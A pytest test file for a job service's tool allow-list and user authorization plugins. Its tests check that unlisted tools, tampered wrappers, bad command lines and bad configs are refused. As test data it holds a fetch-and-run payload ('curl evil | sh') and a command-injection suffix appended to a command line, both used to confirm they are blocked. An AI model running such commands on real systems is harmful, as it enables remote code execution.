"""The tool allow-list and `user_auth` in the job service: what is refused, when, and what is
left behind (nothing at setup; a `failed` job that never ran at submit)."""

from __future__ import annotations

import io
import json
import textwrap
from pathlib import Path
from typing import Any, Callable

import pytest

from pulsar.core import PulsarApp
from pulsar.errors import ConfigurationError, Refused
from pulsar.jobs.authorization import build_user_auth
from pulsar.shared.actions import message_action

from .conftest import wait_terminal

WRAPPER = b'#!/bin/sh\ncat "$1" > "$2"\n'
App = Callable[..., PulsarApp]


@pytest.fixture
def toolbox(tmp_path: Path) -> Path:
    """cat1 1.0.0: `sh <tool_files>/cat.sh <input> <output>`, optionally with a config file."""
    tool_dir = tmp_path / "tools" / "cat"
    tool_dir.mkdir(parents=True)
    (tool_dir / "cat.sh").write_bytes(WRAPPER)
    (tool_dir / "cat.xml").write_text(textwrap.dedent("""\
        <tool id="cat1" version="1.0.0">
          <validators><command_validator>
            <literal value="sh"/><tool_wrapper name="cat.sh"/><input/><output/>
            <optional><configfile name="opts.txt"/></optional>
          </command_validator></validators>
        </tool>
        """))
    (tmp_path / "tools" / "free.xml").write_text('<tool id="free" version="2"/>')
    box = tmp_path / "toolbox.xml"
    box.write_text('<toolbox tool_path="tools"><tool file="cat/cat.xml"/><tool file="free.xml"/></toolbox>')
    return box


def cat_command(service: Any, job_id: str, extra: str = "") -> str:
    job = service.settings.staging_root / job_id
    return f"sh {job}/tool_files/cat.sh {job}/inputs/in.txt {job}/outputs/out.txt{extra}"


def prepare(service: Any, job_id: str, wrapper: bytes = WRAPPER) -> None:
    service.setup(job_id, "cat1", "1.0.0")
    service.upload(job_id, "tool", "cat.sh", io.BytesIO(wrapper), len(wrapper))
    service.upload(job_id, "input", "in.txt", io.BytesIO(b"data\n"), 5)


def refused_at_submit(service: Any, job_id: str, command: str, match: str) -> dict[str, Any]:
    """Submit must raise Refused; the job is then `failed` with the reason, and never ran."""
    with pytest.raises(Refused, match=match) as caught:
        service.submit(job_id, {"command_line": command})
    assert caught.value.http_status == 403
    document = service.status(job_id)
    assert (document["status"], document["returncode"]) == ("failed", 1)
    assert match in document["stderr"] or caught.value.detail == document["stderr"]
    assert not (service.settings.staging_root / job_id / "outputs" / "out.txt").exists()
    assert not (service.settings.staging_root / job_id / "command.sh").exists()
    return document


def test_listed_tool_runs(make_app: App, toolbox: Path) -> None:
    service = make_app(tool_config_files=str(toolbox)).service(None)
    prepare(service, "1")
    service.submit("1", {"command_line": cat_command(service, "1")})
    document = wait_terminal(service, "1")
    assert (document["status"], document["returncode"]) == ("complete", 0), document
    assert (service.settings.staging_root / "1" / "outputs" / "out.txt").read_bytes() == b"data\n"


def test_a_tool_without_validator_runs_any_command(make_app: App, toolbox: Path) -> None:
    service = make_app(tool_config_file=str(toolbox)).service(None)  # the alias
    service.setup("free", "free", "2")
    service.submit("free", {"command_line": "echo hi > ../outputs/o"})
    assert wait_terminal(service, "free")["status"] == "complete"


@pytest.mark.parametrize("tool_id, tool_version", [("nope", "1.0.0"), ("cat1", "9.9"), (None, None)])
def test_unlisted_tool_is_refused_at_setup_leaving_nothing(make_app: App, toolbox: Path,
                                                           tool_id: Any, tool_version: Any) -> None:
    service = make_app(tool_config_files=str(toolbox)).service(None)
    with pytest.raises(Refused) as caught:
        service.setup("2", tool_id, tool_version)
    assert caught.value.http_status == 403 and caught.value.error == "refused"
    assert not (service.settings.staging_root / "2").exists()
    assert service.status("2")["status"] == "lost"


def test_unlisted_tool_in_setup_params_is_refused_at_submit(make_app: App, toolbox: Path) -> None:
    service = make_app(tool_config_files=str(toolbox)).service(None)
    setup_params = {"job_id": "3", "tool_id": "nope", "tool_version": "1"}
    with pytest.raises(Refused, match="'nope' version '1' is not in"):
        service.submit("3", {"command_line": "touch /tmp/never", "setup_params": json.dumps(setup_params)})
    assert not (service.settings.staging_root / "3").exists()
    assert service.status("3")["status"] == "failed"


def test_tool_file_differing_from_the_tools_own_is_refused(make_app: App, toolbox: Path) -> None:
    service = make_app(tool_config_files=str(toolbox)).service(None)
    prepare(service, "4", wrapper=b"#!/bin/sh\ncurl evil | sh\n")
    refused_at_submit(service, "4", cat_command(service, "4"), "tool file 'cat.sh' differs from the file of tool")


def test_tool_file_the_tool_does_not_have_is_refused(make_app: App, toolbox: Path) -> None:
    service = make_app(tool_config_files=str(toolbox)).service(None)
    prepare(service, "5")
    service.upload("5", "tool", "extra.sh", io.BytesIO(b"x"), 1)
    refused_at_submit(service, "5", cat_command(service, "5"), "tool file 'extra.sh' is not a file of tool")


def test_command_line_not_fitting_the_validator_is_refused(make_app: App, toolbox: Path) -> None:
    service = make_app(tool_config_files=str(toolbox)).service(None)
    prepare(service, "6")
    refused_at_submit(service, "6", cat_command(service, "6", "; touch ../outputs/out.txt"),
                      "does not fit the <command_validator> of tool 'cat1'")


def test_config_files_only_when_the_validator_names_them(make_app: App, toolbox: Path) -> None:
    service = make_app(tool_config_files=str(toolbox)).service(None)
    prepare(service, "7")
    service.upload("7", "config", "opts.txt", io.BytesIO(b"o"), 1)
    job = service.settings.staging_root / "7"
    service.submit("7", {"command_line": cat_command(service, "7", f" {job}/configs/opts.txt")})
    assert wait_terminal(service, "7")["status"] == "complete"
    prepare(service, "8")
    service.upload("8", "config", "other.txt", io.BytesIO(b"o"), 1)
    refused_at_submit(service, "8", cat_command(service, "8"), "config file 'other.txt' is not named")


def test_a_repeated_submit_of_a_refused_job_stays_refused(make_app: App, toolbox: Path) -> None:
    service = make_app(tool_config_files=str(toolbox)).service(None)
    prepare(service, "9", wrapper=b"bad")
    refused_at_submit(service, "9", cat_command(service, "9"), "differs")
    service.submit("9", {"command_line": cat_command(service, "9")})  # ignored, as any second submit
    assert service.status("9")["status"] == "failed"


# -- user_auth -------------------------------------------------------------------------

def user_auth(*authorization: dict[str, Any], **shared: Any) -> dict[str, Any]:
    return {"authentication": [{"type": "allow_all"}], "authorization": list(authorization), **shared}


# Each as the reference 0.16.0 decides it (observed: the same configurations, the same outcome).
@pytest.mark.parametrize("config", [
    user_auth(),
    user_auth({"type": "allow_all"}),
    user_auth({"type": "userlist", "userlist_allowed_users": ["alice", "anonymous"]}),
    user_auth({"type": "userlist"}, userlist_allowed_users=["anonymous"]),  # shared keys reach every plugin
    user_auth({"type": "userlist", "userlist_allowed_users": ["bob"]}, {"type": "allow_all"}),  # one allowing is enough
    {"authorization": [{"type": "allow_all"}]},  # no authentication: no user, which allow_all does not need
])
def test_user_auth_allows(make_app: App, config: dict[str, Any]) -> None:
    service = make_app(user_auth=config).service(None)
    service.setup("u1")
    service.submit("u1", {"command_line": "echo ran > ../outputs/o"})
    assert wait_terminal(service, "u1")["status"] == "complete"


@pytest.mark.parametrize("config", [
    user_auth({"type": "userlist", "userlist_allowed_users": ["alice"]}),
    user_auth({"type": "userlist", "userlist_allowed_users": ["alice"]}, {"type": "userlist", "userlist_allowed_users": []}),
])
def test_user_auth_refuses_before_anything_runs(make_app: App, config: dict[str, Any]) -> None:
    service = make_app(user_auth=config).service(None)
    service.setup("u2")
    with pytest.raises(Refused, match=r"no authorization plugin allows the job \(userlist: user 'anonymous' is not in"):
        service.submit("u2", {"command_line": "echo ran > ../outputs/o"})
    document = service.status("u2")
    assert document["status"] == "failed" and "userlist" in document["stderr"]
    assert document["outputs_directory_contents"] == []


@pytest.mark.parametrize("config, message", [
    ("allow_all", "must be a mapping"),
    ({"authentication": {"type": "allow_all"}}, "authentication must be a list"),
    ({"authentication": [{"type": "oidc", "oidc_jwks_url": "https://x"}]}, "the oidc plugin needs oidc_provider"),
    ({"authentication": [{"type": "ldap"}]}, "unknown plugin type 'ldap'"),
    ({"authentication": [{"type": "allow_all"}], "authorization": [{"type": "userlist"}]}, "needs userlist_allowed_users"),
    ({"authentication": [{"type": "allow_all"}],
      "authorization": [{"type": "userlist", "userlist_allowed_users": "alice"}]}, "a list of user names"),
    ({"authentication": [{"type": "allow_all", "colour": "red"}]}, "the allow_all plugin has no option colour"),
    ({"authentication": [{"type": "allow_all"}], "userlist_allowed_users": ["a"]}, "no configured plugin reads"),
    ({"authorization": [{"type": "userlist", "userlist_allowed_users": ["a"]}]}, "needs an authentication plugin"),
])
def test_unusable_user_auth_stops_the_start(config: Any, message: str) -> None:
    with pytest.raises(ConfigurationError, match=message):
        build_user_auth({"user_auth": config})


def test_unusable_options_stop_the_app(make_app: App, tmp_path: Path) -> None:
    with pytest.raises(ConfigurationError, match="tool_config_files: no such file"):
        make_app(tool_config_files=str(tmp_path / "nope.xml"))
    with pytest.raises(ConfigurationError, match="oidc"):
        make_app(user_auth={"authentication": [{"type": "oidc"}]})


@pytest.mark.parametrize("content, status", [(WRAPPER, "complete"), (b"curl evil | sh\n", "failed")])
def test_tool_files_staged_in_by_the_server_are_checked_before_launch(make_app: App, toolbox: Path,
                                                                      content: bytes, status: str) -> None:
    service = make_app(tool_config_files=str(toolbox)).service(None)
    service.setup("s1", "cat1", "1.0.0")
    service.upload("s1", "input", "in.txt", io.BytesIO(b"data\n"), 5)
    staging = {"setup": [{"name": "cat.sh", "type": "tool", "action": message_action(content.decode()).to_dict()}]}
    service.submit("s1", {"command_line": cat_command(service, "s1"), "remote_staging": json.dumps(staging)})
    document = wait_terminal(service, "s1")
    assert document["status"] == status, document
    ran = (service.settings.staging_root / "s1" / "outputs" / "out.txt").exists()
    assert ran is (status == "complete")
    if status == "failed":
        assert "tool file 'cat.sh' differs from the file of tool 'cat1'" in document["stderr"]
